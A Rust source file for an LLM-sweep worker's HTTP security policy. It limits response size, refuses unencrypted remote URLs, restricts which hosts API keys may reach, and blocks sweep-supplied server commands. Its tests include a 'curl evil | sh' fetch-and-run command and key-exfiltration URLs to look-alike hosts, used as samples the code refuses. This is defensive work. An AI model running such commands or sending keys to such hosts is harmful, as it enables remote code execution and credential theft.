//! What the HTTP backend will and will not do, whatever a server or a sweep says.
//!
//! - [`HttpPolicy::max_body_bytes`]: a response body larger than this is a permanent
//!   error, read no further, so a broken or hostile server cannot exhaust a worker's
//!   memory (default [`DEFAULT_MAX_BODY_BYTES`], 64 MiB: a chat completion is a few KiB,
//!   an 8k-token answer about 32 KiB).
//! - [`check_plan`]: at worker start, an `http://` model URL to a host that is not
//!   loopback is refused unless [`HttpPolicy::allow_insecure_http`]: prompts, answers
//!   and the API key would cross the network unencrypted.
//! - [`KeyHosts`]: an API key goes only to the hosts its worker's operator allows
//!   (`HALYARD_KEY_HOSTS`; by default a provider's key only to that provider's API host,
//!   any key to loopback), so a sweep's `base_url` cannot send a key elsewhere.
//! - [`HttpPolicy::allow_server_commands`]: a managed server given as a sweep's `command`
//!   (code the sweep's author chose) starts only on a worker that allows it; presets
//!   always start.
//!
//! Error texts built here and in `openai` pass through `halyard_proto::redact`, so
//! credentials inside URLs and key-like text in error bodies never reach logs, errors or
//! dead-letter records.

use halyard_broker::auth::is_loopback_host;
use halyard_proto::pool::{WorkerModel, WorkerPlan};
use halyard_proto::redact;
use halyard_proto::server::{preset, ServerSpec};

use crate::call_error::CallError;

/// Default limit of one response body.
pub const DEFAULT_MAX_BODY_BYTES: u64 = 64 << 20;

/// Limits of the HTTP backend, from the worker's configuration.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct HttpPolicy {
    pub max_body_bytes: u64,
    /// Allow `http://` model URLs to hosts that are not loopback.
    pub allow_insecure_http: bool,
    /// Start managed servers given as a `command` (not only the presets).
    pub allow_server_commands: bool,
}

impl Default for HttpPolicy {
    fn default() -> Self {
        HttpPolicy {
            max_body_bytes: DEFAULT_MAX_BODY_BYTES,
            allow_insecure_http: false,
            allow_server_commands: false,
        }
    }
}

/// Why `base_url` may not be used under `policy`, if it may not.
pub fn check_url(base_url: &str, policy: HttpPolicy) -> Result<(), String> {
    let shown = redact::url(base_url);
    let u = reqwest::Url::parse(base_url).map_err(|e| format!("{shown:?} is not a URL: {e}"))?;
    match u.scheme() {
        "https" => Ok(()),
        "http" => {
            let loopback = u.host_str().is_some_and(is_loopback_host);
            if loopback || policy.allow_insecure_http {
                Ok(())
            } else {
                Err(format!(
                    "{shown:?} is plain http:// to a host that is not loopback: prompts, answers and the \
                     API key would cross the network unencrypted. Use https://, or accept this with \
                     --allow-insecure-http (or `allow_insecure_http = true` in the worker config)"
                ))
            }
        }
        other => Err(format!("{shown:?}: scheme {other:?} is not http:// or https://")),
    }
}

/// Check every model of the plan (at worker start, before anything is fetched): HTTP
/// models' URLs and keys, managed servers' commands.
pub fn check_plan(plan: &WorkerPlan, policy: HttpPolicy) -> Result<(), String> {
    let listed = listed_key_envs();
    let hosts = KeyHosts::from_env()?;
    for (pool, m) in plan.models() {
        match m {
            WorkerModel::Http(h) => {
                let at = || format!("model {:?} of pool {:?}", h.model, pool.name);
                check_url(&h.base_url, policy).map_err(|e| format!("{}: {e}", at()))?;
                if let Some(var) = &h.api_key_env {
                    check_key_env(var, &listed).map_err(|e| format!("{}: {e}", at()))?;
                    hosts.check(var, &h.base_url).map_err(|e| format!("{}: {e}", at()))?;
                    key_is_set(var).map_err(|e| format!("{}: {e}", at()))?;
                }
            }
            WorkerModel::Server(s) if !policy.allow_server_commands && !is_preset(s) => {
                let program = redact::secrets(s.command.first().map_or("", String::as_str));
                return Err(format!(
                    "model {:?} of pool {:?} is a managed server started by the sweep's own \
                     command (program {program:?}): a sweep's command runs on this machine as \
                     written, so this worker starts only the presets (server = \"vllm\", \
                     \"sglang\", \"llama-server\", \"tgi\") unless it is started with \
                     --allow-server-commands",
                    s.name, pool.name
                ));
            }
            _ => {}
        }
    }
    Ok(())
}

/// Whether `s` runs a preset's command (the preset's program and arguments first, then
/// the sweep's extra `args`), not a command of the sweep's own.
pub fn is_preset(s: &ServerSpec) -> bool {
    preset(&s.kind).is_some_and(|p| {
        s.command.len() >= p.command.len() && s.command.iter().zip(p.command).all(|(a, b)| a == b)
    })
}

/// The worker's environment variable saying which hosts each API key may go to.
pub const KEY_HOSTS_VAR: &str = "HALYARD_KEY_HOSTS";

/// Where a provider's key goes when [`KEY_HOSTS_VAR`] does not name its variable.
pub const DEFAULT_KEY_HOSTS: &[(&str, &[&str])] = &[
    ("OPENAI_API_KEY", &["api.openai.com"]),
    ("ANTHROPIC_API_KEY", &["api.anthropic.com"]),
    ("GEMINI_API_KEY", &["generativelanguage.googleapis.com"]),
    ("MISTRAL_API_KEY", &["api.mistral.ai"]),
    ("GROQ_API_KEY", &["api.groq.com"]),
    ("TOGETHER_API_KEY", &["api.together.xyz"]),
    ("DEEPSEEK_API_KEY", &["api.deepseek.com"]),
    ("FIREWORKS_API_KEY", &["api.fireworks.ai"]),
    ("OPENROUTER_API_KEY", &["openrouter.ai"]),
];

/// The hosts each API-key variable may be sent to (issue 49): a sweep is written by
/// someone else, and `api_key_env` with a `base_url` of its choice would otherwise send
/// this worker's key anywhere.
///
/// `HALYARD_KEY_HOSTS` = entries separated by `;`, each `VAR=HOST[,HOST...]`; a host is
/// a name (`api.example.com`), `*.example.com` (any subdomain) or `*` (any host). An
/// entry replaces the default of its variable ([`DEFAULT_KEY_HOSTS`]); a variable with
/// neither goes to no host but loopback. Any key may go to a loopback host (this
/// machine: a local server or proxy).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct KeyHosts {
    rules: Vec<(String, Vec<String>)>,
}

impl KeyHosts {
    /// Parse [`KEY_HOSTS_VAR`]'s value.
    pub fn parse(text: &str) -> Result<KeyHosts, String> {
        let mut rules = Vec::new();
        for entry in text.split(';').map(str::trim).filter(|e| !e.is_empty()) {
            let bad = |why: &str| {
                format!(
                    "{KEY_HOSTS_VAR}: entry {:?} {why} (expected VAR=HOST[,HOST...] entries \
                     separated by ';', a HOST being a name, *.domain or *)",
                    redact::secrets(entry)
                )
            };
            let (var, hosts) = entry.split_once('=').ok_or_else(|| bad("has no '='"))?;
            let var = var.trim();
            if var.is_empty() || !var.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
                return Err(bad("does not start with a variable name"));
            }
            let hosts: Vec<String> = hosts
                .split(',')
                .map(|h| h.trim().trim_end_matches('.').to_ascii_lowercase())
                .filter(|h| !h.is_empty())
                .collect();
            if hosts.is_empty() {
                return Err(bad("names no host"));
            }
            for h in &hosts {
                let name = h.strip_prefix("*.").unwrap_or(h);
                let ok = h == "*"
                    || (!name.is_empty()
                        && name.chars().all(|c| c.is_ascii_alphanumeric() || "-.:[]".contains(c)));
                if !ok {
                    return Err(bad(&format!("names {h:?}, which is not a host")));
                }
            }
            rules.push((var.to_string(), hosts));
        }
        Ok(KeyHosts { rules })
    }

    /// From this machine's [`KEY_HOSTS_VAR`] (unset: the defaults only).
    pub fn from_env() -> Result<KeyHosts, String> {
        KeyHosts::parse(&std::env::var(KEY_HOSTS_VAR).unwrap_or_default())
    }

    /// The hosts `var` may go to besides loopback.
    pub fn hosts(&self, var: &str) -> Vec<String> {
        match self.rules.iter().rev().find(|(v, _)| v == var) {
            Some((_, hosts)) => hosts.clone(),
            None => DEFAULT_KEY_HOSTS
                .iter()
                .find(|(v, _)| *v == var)
                .map(|(_, h)| h.iter().map(|h| h.to_string()).collect())
                .unwrap_or_default(),
        }
    }

    /// Why the key in `var` may not be sent to `base_url`'s host, if it may not.
    pub fn check(&self, var: &str, base_url: &str) -> Result<(), String> {
        let shown_url = redact::url(base_url);
        let u = reqwest::Url::parse(base_url)
            .map_err(|e| format!("{shown_url:?} is not a URL: {e}"))?;
        let host = u.host_str().unwrap_or("").trim_end_matches('.').to_ascii_lowercase();
        if is_loopback_host(&host) {
            return Ok(());
        }
        let allowed = self.hosts(var);
        let matches = |pat: &str| {
            pat == "*"
                || pat == host
                || pat.strip_prefix("*.").is_some_and(|d| host.ends_with(&format!(".{d}")))
        };
        if allowed.iter().any(|p| matches(p)) {
            return Ok(());
        }
        let var = redact::secrets(var);
        let to = if allowed.is_empty() {
            "loopback hosts only".to_string()
        } else {
            format!("{} and loopback hosts only", allowed.join(", "))
        };
        Err(format!(
            "the key in ${var} may not be sent to host {host:?} ({shown_url}): this worker sends \
             it to {to}. If that host should have it, allow it on the machine that sends the \
             key: {KEY_HOSTS_VAR}=\"{var}={host}\" (entries VAR=HOST[,HOST...] separated by ';')"
        ))
    }
}

/// Refuse an API-key variable that is not set, or is empty, on this machine (issue 48):
/// every call would go out without a key (or not at all) and each job end as a dead
/// letter.
pub fn key_is_set(var: &str) -> Result<(), String> {
    let shown = redact::secrets(var);
    match std::env::var_os(var) {
        None => Err(format!(
            "its api_key_env names ${shown}, which is not set on this machine: export {shown}=<the API key> \
             where the workers run"
        )),
        Some(v) if v.is_empty() => Err(format!(
            "its api_key_env names ${shown}, which is empty on this machine: set it to the API key"
        )),
        Some(_) => Ok(()),
    }
}

/// The worker's environment variable that lists further API-key variables a sweep may
/// name (comma-separated), for keys whose variable does not end in `_API_KEY`.
pub const KEY_ENVS_VAR: &str = "HALYARD_KEY_ENVS";

/// The names [`KEY_ENVS_VAR`] lists on this worker.
pub fn listed_key_envs() -> Vec<String> {
    std::env::var(KEY_ENVS_VAR)
        .unwrap_or_default()
        .split(',')
        .map(|s| s.trim().to_string())
        .filter(|s| !s.is_empty())
        .collect()
}

/// Whether a sweep may make this worker send variable `var` as an API key (issue 33): a
/// shared sweep could otherwise name any variable of the worker's environment (its broker
/// password, say) and have it sent as a Bearer token to a URL of its choice. Allowed: a
/// name of upper-case letters, digits and `_` that ends in `_API_KEY`, or one the
/// worker's operator lists in `HALYARD_KEY_ENVS`; Halyard's own variables (`HALYARD_*`)
/// never.
pub fn check_key_env(var: &str, listed: &[String]) -> Result<(), String> {
    let shown = redact::secrets(var);
    if var.starts_with("HALYARD_") {
        return Err(format!(
            "api_key_env {shown:?} names one of Halyard's own variables, which are never sent as an API key"
        ));
    }
    let well_formed = !var.is_empty()
        && var.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_');
    if (well_formed && var.ends_with("_API_KEY")) || listed.iter().any(|l| l == var) {
        // A key left as an example file's placeholder would be sent and refused by the
        // API on every call: refused here, at start, instead.
        if let Some(v) = std::env::var(var).ok().filter(|v| halyard_broker::auth::is_placeholder(v))
        {
            return Err(format!(
                "{shown} holds a placeholder ({v:?}, from an example file), not an API key: set the real key"
            ));
        }
        return Ok(());
    }
    Err(format!(
        "api_key_env {shown:?} is not an API-key variable: a sweep may name variables \
         matching [A-Z0-9_]*_API_KEY, or those this worker lists in {KEY_ENVS_VAR} \
         (comma-separated), so that a shared sweep cannot send another secret of this \
         worker's environment to an API"
    ))
}

/// Read a response body, failing (permanently) once it exceeds `limit` bytes.
pub async fn read_body(
    mut resp: reqwest::Response,
    limit: u64,
    what: &str,
) -> Result<Vec<u8>, CallError> {
    let too_large = |n: u64| {
        CallError::permanent(format!(
            "{what}: the response body is larger than the limit of {limit} bytes ({n} bytes or more); \
             raise max_body_bytes in the worker config if such answers are expected"
        ))
    };
    if let Some(n) = resp.content_length().filter(|n| *n > limit) {
        return Err(too_large(n));
    }
    let mut body = Vec::new();
    while let Some(chunk) = resp
        .chunk()
        .await
        .map_err(|e| super::http_error::transport_error(what, "reading body: ", &e))?
    {
        if body.len() as u64 + chunk.len() as u64 > limit {
            return Err(too_large(body.len() as u64 + chunk.len() as u64));
        }
        body.extend_from_slice(&chunk);
    }
    Ok(body)
}

#[cfg(test)]
mod tests {

    /// Issue 33: a sweep names only API-key variables: `*_API_KEY`, or what the worker's
    /// operator lists; never Halyard's own (its broker password, say).
    #[test]
    fn key_variables_a_sweep_may_name() {
        let listed = vec!["HF_TOKEN".to_string()];
        for ok in ["OPENAI_API_KEY", "TEAM_2_API_KEY", "HF_TOKEN"] {
            assert!(check_key_env(ok, &listed).is_ok(), "{ok}");
        }
        for bad in [
            "HALYARD_NATS_PASSWORD",
            "HALYARD_X_API_KEY",
            "AWS_SECRET_ACCESS_KEY",
            "HOME",
            "openai_api_key",
            "A-B_API_KEY",
            "",
        ] {
            let e = check_key_env(bad, &listed).unwrap_err();
            assert!(e.contains("api_key_env"), "{bad}: {e}");
        }
        assert!(check_key_env("HALYARD_NATS_PASSWORD", &["HALYARD_NATS_PASSWORD".into()]).is_err());
        // A key variable holding an example file's placeholder.
        std::env::set_var("PLACEHOLDER_TEST_API_KEY", "REPLACE-ME");
        let e = check_key_env("PLACEHOLDER_TEST_API_KEY", &listed).unwrap_err();
        assert!(e.contains("placeholder"), "{e}");
        // The worker refuses such a plan before it takes a job, naming model and pool.
        let model =
            WorkerModel::openai("https://api.example.com/v1", "m", Some("HALYARD_NATS_PASSWORD"));
        let plan = WorkerPlan {
            pools: vec![halyard_proto::pool::PoolPlan::new("p", 1).with_model(model)],
        };
        let e = check_plan(&plan, HttpPolicy::default()).unwrap_err();
        assert!(e.contains("HALYARD_NATS_PASSWORD") && e.contains("pool \"p\""), "{e}");
    }

    use super::*;

    /// Issue 13: plain http:// leaves the machine only when the operator says so;
    /// loopback and https are always fine; the refusal says why and hides credentials.
    #[test]
    fn insecure_urls_are_refused_unless_allowed() {
        let strict = HttpPolicy::default();
        let lax = HttpPolicy { allow_insecure_http: true, ..strict };
        for ok in [
            "https://api.openai.com/v1",
            "http://127.0.0.1:8080/v1",
            "http://127.9.9.9/v1",
            "http://localhost:1/v1",
            "http://[::1]:8000/v1",
            "http://api.localhost/v1",
        ] {
            assert_eq!(check_url(ok, strict), Ok(()), "{ok}");
        }
        for bad in ["http://10.0.0.5:8000/v1", "http://gpu-node:8000/v1", "http://[::2]/v1"] {
            let e = check_url(bad, strict).unwrap_err();
            assert!(e.contains("unencrypted") && e.contains("--allow-insecure-http"), "{e}");
            assert_eq!(check_url(bad, lax), Ok(()), "{bad}");
        }
        let e = check_url("http://u:hunter2@vllm:8000/v1", strict).unwrap_err();
        assert!(!e.contains("hunter2"), "{e}");
        assert!(check_url("ftp://x/v1", lax).is_err());
        assert!(check_url("not a url", lax).is_err());
    }

    /// The plan check names the model and pool of the first insecure URL.
    #[test]
    fn plan_check_names_model_and_pool() {
        use halyard_proto::pool::PoolPlan;
        let mut plan = WorkerPlan::default();
        let m = |u: &str| WorkerModel::openai(u, "m", None);
        plan.add(PoolPlan::new("p", 1).with_model(m("http://127.0.0.1/v1"))).unwrap();
        assert_eq!(check_plan(&plan, HttpPolicy::default()), Ok(()));
        plan.add(PoolPlan::new("q", 1).with_model(m("http://10.1.1.1/v1"))).unwrap();
        let e = check_plan(&plan, HttpPolicy::default()).unwrap_err();
        assert!(e.contains("model \"m\" of pool \"q\""), "{e}");
    }

    /// Issue 49: a key goes to its provider's hosts and loopback by default, to what
    /// HALYARD_KEY_HOSTS allows otherwise; the refusal names the variable, the host and
    /// how to allow it.
    #[test]
    fn keys_go_only_to_the_hosts_allowed() {
        let d = KeyHosts::default();
        assert_eq!(d.check("OPENAI_API_KEY", "https://api.openai.com/v1"), Ok(()));
        assert_eq!(d.check("OPENAI_API_KEY", "https://API.OpenAI.com./v1"), Ok(()));
        assert_eq!(d.check("ANTHROPIC_API_KEY", "https://api.anthropic.com/v1"), Ok(()));
        for loopback in ["http://127.0.0.1:9/v1", "http://localhost/v1", "http://[::1]:8/v1"] {
            assert_eq!(d.check("ANY_API_KEY", loopback), Ok(()), "{loopback}");
        }
        let e = d.check("OPENAI_API_KEY", "https://evil.example.com/v1").unwrap_err();
        for part in [
            "$OPENAI_API_KEY",
            "\"evil.example.com\"",
            "api.openai.com",
            "HALYARD_KEY_HOSTS=\"OPENAI_API_KEY=evil.example.com\"",
        ] {
            assert!(e.contains(part), "{part}: {e}");
        }
        // A look-alike host is not the provider's.
        assert!(d.check("OPENAI_API_KEY", "https://api.openai.com.evil.io/v1").is_err());
        assert!(d.check("OPENAI_API_KEY", "https://x@api.anthropic.com/v1").is_err());
        // A variable without a default goes to loopback only.
        let e = d.check("TEAM_API_KEY", "https://llm.corp.example/v1").unwrap_err();
        assert!(e.contains("loopback hosts only"), "{e}");

        let h = KeyHosts::parse(
            " TEAM_API_KEY = llm.corp.example, *.inference.example ; OPENAI_API_KEY=proxy.corp;X_API_KEY=*",
        )
        .unwrap();
        assert_eq!(h.check("TEAM_API_KEY", "https://llm.corp.example/v1"), Ok(()));
        assert_eq!(h.check("TEAM_API_KEY", "https://eu.inference.example/v1"), Ok(()));
        assert!(h.check("TEAM_API_KEY", "https://inference.example/v1").is_err());
        assert!(h.check("TEAM_API_KEY", "https://xinference.example/v1").is_err());
        // An entry replaces its variable's default.
        assert_eq!(h.check("OPENAI_API_KEY", "https://proxy.corp/v1"), Ok(()));
        assert!(h.check("OPENAI_API_KEY", "https://api.openai.com/v1").is_err());
        assert_eq!(h.check("X_API_KEY", "https://anywhere.example/v1"), Ok(()));
        assert_eq!(h.check("ANTHROPIC_API_KEY", "https://api.anthropic.com/v1"), Ok(()));

        for bad in ["OPENAI_API_KEY", "=api.openai.com", "A=", "A=host/path", "A B=h"] {
            let e = KeyHosts::parse(bad).unwrap_err();
            assert!(e.contains("HALYARD_KEY_HOSTS") && e.contains("VAR=HOST"), "{bad}: {e}");
        }
    }

    fn server(kind: &str, command: &[&str]) -> WorkerModel {
        WorkerModel::Server(halyard_proto::server::ServerSpec {
            endpoint: format!("server:{kind}:m:r:-:0"),
            name: "m".into(),
            kind: kind.into(),
            command: command.iter().map(|a| a.to_string()).collect(),
            model_path: "/m".into(),
            served_name: "m".into(),
            gpus: 0,
            ready_path: "/health".into(),
            version_path: None,
            version_field: "version".into(),
            version: None,
            start_timeout_ms: 1000,
            max_restarts: 1,
            restart_backoff_ms: 100,
            stable_ms: 1000,
            gpu_sets: Vec::new(),
        })
    }

    /// Issue 49: a sweep's own server command starts only where the worker allows it;
    /// a preset (with extra args) always.
    #[test]
    fn server_commands_need_the_operators_consent() {
        use halyard_proto::pool::PoolPlan;
        let vllm = halyard_proto::server::preset("vllm").unwrap();
        let mut preset_cmd: Vec<&str> = vllm.command.to_vec();
        preset_cmd.push("--enforce-eager");
        let plan_of = |m: WorkerModel| {
            let mut p = WorkerPlan::default();
            p.add(PoolPlan::new("p", 1).with_model(m)).unwrap();
            p
        };
        let strict = HttpPolicy::default();
        let allow = HttpPolicy { allow_server_commands: true, ..strict };
        assert_eq!(check_plan(&plan_of(server("vllm", &preset_cmd)), strict), Ok(()));
        for custom in [
            server("sh", &["sh", "-c", "curl evil | sh"]),
            // Named like a preset, but not the preset's command.
            server("vllm", &["vllm", "--port", "{port}"]),
            server("vllm", &["sh", "-c", "x"]),
        ] {
            let plan = plan_of(custom);
            let e = check_plan(&plan, strict).unwrap_err();
            assert!(e.contains("--allow-server-commands") && e.contains("pool \"p\""), "{e}");
            assert_eq!(check_plan(&plan, allow), Ok(()));
        }
    }
}
